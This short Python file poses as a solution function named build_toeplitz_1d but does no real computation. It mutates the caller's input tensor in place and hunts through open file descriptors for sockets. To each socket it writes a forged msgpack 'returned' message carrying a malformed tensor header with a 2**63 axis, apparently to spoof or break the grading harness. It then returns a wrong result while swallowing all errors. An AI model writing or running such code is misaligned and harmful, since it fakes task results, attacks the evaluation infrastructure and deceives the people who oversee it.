"""Writes an empty tensor with an axis of 2**63."""

import os
import stat

import msgspec
import torch


def attempt(action):
    try:
        return action()
    except BaseException:
        return None


def frame(**message):
    body = msgspec.msgpack.encode(message)
    return len(body).to_bytes(4, "big") + body


def sockets():
    return [fd for fd in range(3, 64) if attempt(lambda: stat.S_ISSOCK(os.fstat(fd).st_mode))]


def send(data):
    for fd in sockets():
        attempt(lambda: os.write(fd, data))


def wrong(kernel):
    with torch.no_grad():
        kernel.add_(1)
    return torch.arange(7, dtype=torch.float64)


HEADER, RAW = ("torch", "float32", [0, 2**63], [1, 1]), b""


def build_toeplitz_1d(kernel, n):
    wrong(kernel)
    head = msgspec.msgpack.encode(HEADER)
    send(frame(op="returned", value=msgspec.msgpack.Ext(1, len(head).to_bytes(4, "big") + head + RAW)))
    return wrong(kernel)
